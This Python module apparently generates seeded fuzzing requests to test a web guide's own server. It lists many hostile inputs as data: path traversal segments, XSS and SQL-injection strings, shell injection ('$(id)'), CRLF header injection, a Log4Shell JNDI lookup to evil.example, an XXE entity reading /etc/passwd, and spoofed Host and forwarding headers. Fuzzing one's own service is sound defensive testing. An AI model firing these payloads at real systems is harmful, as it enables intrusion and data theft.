"""A grammar of hostile requests: addresses, queries, headers and bodies from a seed.

The same seed makes the same requests, so that what broke once can be asked again.
"""

from collections.abc import Iterator
from collections.abc import Sequence
from dataclasses import dataclass
from random import Random

METHODS = ("GET",) * 12 + ("HEAD", "POST", "PUT", "DELETE", "OPTIONS", "TRACE", "BREW")

SEGMENTS = (
    b"..",
    b".",
    b"",
    b"%2e%2e",
    b"%252e%252e%252f",
    b"..;",
    b"..\\..",
    b"\x00",
    b"a\x00.png",
    b"\xff\xfe",
    b"\xc0\xae\xc0\xae",
    b"\xed\xa0\x80",
    b"\xf4\x90\x80\x80",
    "고려인".encode(),
    "\u1100\u1161\u11a8".encode(),
    "\u202eofni".encode(),
    "Ё́👩‍👩‍👧".encode(),
    b"<script>alert(1)</script>",
    b"'\"><svg/onload=x>",
    b"{{7*7}}{%raw%}",
    b"%s%n%d{0.__class__}",
    b"' OR 1=1--",
    b"$(id)`id`|id",
    b"\r\nSet-Cookie: a=b",
    b"CON",
    b"-1",
    b"1e309",
    b"0x7fffffffffffffff",
    b"~root",
    b".git",
    b".env",
    b"village.yaml",
    b"etc",
    b"passwd",
    b"x" * 300,
    "ㅎ".encode() * 400,
    b"a/" * 120,
)
"""Parts of addresses that have broken servers before; raw bytes, not yet quoted."""

WORDS = """
courses places art streets shows chapters map plan search glossary about sources open
card photos small sound static cloth s desk login edit new past preview shared kept
icons visit healthz hours.json sw.js robots.txt sitemap.xml feed.atom shows.ics
shows.atom index.json pack.json map.js map.svg take-away.html sheet-visitor.pdf
sheet-guide.pdf sheet-visitor.png walk manifest.webmanifest embed home.png en ko ru xx
"""
PLAIN = tuple(WORDS.split())
"""Words that the guide's addresses are made of."""

QUERIES = (
    b"",
    b"q=" + b"%ED%95%9C" * 3000,
    b"q=%ff%fe%00",
    b"q=[" * 200,
    b"q=\xe3\x84\xb1\xe3\x85\x87",
    b"q=a&q=b&q=c",
    b"start=25:99&group=-1&pace=fast",
    b"start=14:00&group=99999999999999999999&pace=group",
    b"start=%00&group=%D9%A3&pace=",
    b"group=1e3",
    b"&&&===;;;",
    b"=" * 2000,
    b"family[$ne]=1&kind=__proto__",
    b"next=//evil.example/&next=javascript:alert(1)",
    b"%",
    b"%zz=%u0041",
)

LONG = b"a" * 7000
HEADERS: Sequence[tuple[bytes, tuple[bytes, ...]]] = (
    (b"Host", (b"", b"evil.example", b"a b", b"[::1", b"x:99999", b"\xff")),
    (b"Accept-Language", (b"", b"ko;q=9e9", b"*;q=nan", b"ru-" * 900, b"\xff,\x80")),
    (b"Accept-Encoding", (b"br;q=0", b"gzip;q=x", b"br," * 900, b"*", b"\xff")),
    (b"If-None-Match", (b"*", b'W/"x"', b'"' * 900, b"\xff")),
    (b"If-Modified-Since", (b"yesterday", b"Thu, 99 Foo 99999 99:99:99 GMT")),
    (b"Range", (b"bytes=0-0", b"bytes=-1", b"bytes=9-1", b"bytes=0-0," * 300, b"x")),
    (b"Cookie", (b"desk=x.y.z", b"desk=" + LONG, b"=;;=", b"\xff=\x80", b"session=.")),
    (b"X-Forwarded-Prefix", (b"//evil.example", b"/x" * 900, b"\xff")),
    (b"X-Forwarded-Proto", (b"javascript", b"https,http", LONG)),
    (b"X-Forwarded-Host", (b"evil.example",)),
    (b"X-Forwarded-For", (b"127.0.0.1", b"' OR 1", b"1" * 900)),
    (b"Authorization", (b"Basic ////", b"Bearer " + LONG)),
    (b"Content-Type", (b"multipart/form-data", b"application/json; charset=utf-99")),
    (b"Origin", (b"null", b"https://evil.example")),
    (b"Referer", (b"javascript:x", b"https://evil.example/\xff")),
    (b"User-Agent", (b"", LONG, b"\xff\xfe", b"${jndi:ldap://evil.example/a}")),
    (b"Expect", (b"200-maybe",)),
    (b"Upgrade", (b"h2c", b"websocket")),
)

FORM = b"application/x-www-form-urlencoded"
PARTS = b"multipart/form-data; boundary=b"
BODIES: Sequence[tuple[bytes, bytes]] = (
    (FORM, b"name=a&password=" + LONG),
    (FORM, b"csrf_token=\xff&text=%ff%00" + b"&a=b" * 2000),
    (FORM, b"x" * 70_000),
    (
        PARTS,
        b"--b\r\nContent-Disposition: form-data; name=file; filename=../a\r\n\r\nGIF89",
    ),
    (PARTS, b"--b" * 3000),
    (PARTS, b"--b\r\n" + b"A: b\r\n" * 2000),
    (b"application/json", b"[" * 5000),
    (b"text/xml", b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'),
    (b"\xff/\x80; charset=\x00", bytes(range(256))),
)


@dataclass(frozen=True)
class Hostile:
    """One request as it would go over the wire; `path` is raw, not quoted."""

    method: str
    path: bytes
    query: bytes
    headers: tuple[tuple[bytes, bytes], ...]
    body: bytes = b""

    def __str__(self) -> str:
        """Show what was asked, short enough for a failed test."""
        return f"{self.method} {self.path[:200]!r}?{self.query[:80]!r} {self.headers}"


def requests(seed: int, count: int, known: Sequence[str] = ()) -> Iterator[Hostile]:
    """Make requests.

    Args:
        seed: names the sequence.
        count: how many.
        known: addresses that exist; a third of all requests bends one of them.
    """
    random = Random(seed)  # noqa: S311  (a game with chance, no secret)
    for _ in range(count):
        yield _request(random, known)


def _request(random: Random, known: Sequence[str]) -> Hostile:
    method = random.choice(METHODS)
    headers = [_header(random) for _ in range(random.choice((0, 0, 1, 1, 2, 4)))]
    body = b""
    if method in {"POST", "PUT"}:
        kind, body = random.choice(BODIES)
        headers.append((b"Content-Type", kind))
    query = random.choice(QUERIES) if random.random() < 0.4 else b""
    return Hostile(method, _path(random, known), query, tuple(headers), body)


def _header(random: Random) -> tuple[bytes, bytes]:
    name, values = random.choice(HEADERS)
    return name, random.choice(values)


def _path(random: Random, known: Sequence[str]) -> bytes:
    if known and random.random() < 0.34:
        return _bent(random, random.choice(known).encode())
    count = random.choice((1, 1, 2, 2, 3, 3, 4, 6, 30))
    return b"/" + b"/".join(_segment(random) for _ in range(count))


def _segment(random: Random) -> bytes:
    if random.random() < 0.6:
        return random.choice(PLAIN).encode()
    return random.choice(SEGMENTS)


def _bent(random: Random, path: bytes) -> bytes:
    """Leave an address as it is, or change one place in it."""
    at = random.randrange(len(path) + 1)
    return random.choice(
        (
            path,
            path[:at] + random.choice(SEGMENTS) + path[at:],
            path[:at] + path[at + 1 :],
            path.upper(),
            path + b"/" + random.choice(SEGMENTS),
            path.replace(b"/", b"//"),
        )
    )
